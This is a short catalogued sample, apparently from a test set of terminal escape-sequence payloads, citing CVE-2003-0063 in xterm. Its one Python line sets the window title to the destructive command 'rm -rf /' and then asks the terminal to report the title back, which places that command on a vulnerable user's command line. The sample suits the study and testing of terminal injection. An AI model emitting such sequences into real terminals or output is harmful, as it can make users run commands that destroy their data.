# title: names the terminal's window anew, and has it type that name back
# source: CVE-2003-0063, xterm's title report put an attacker's text on the command line
# kind: text
# twin: yes
print("\x1b]0;rm -rf /\x07\x1b[21t\x1b]2;title\x1b\\done")
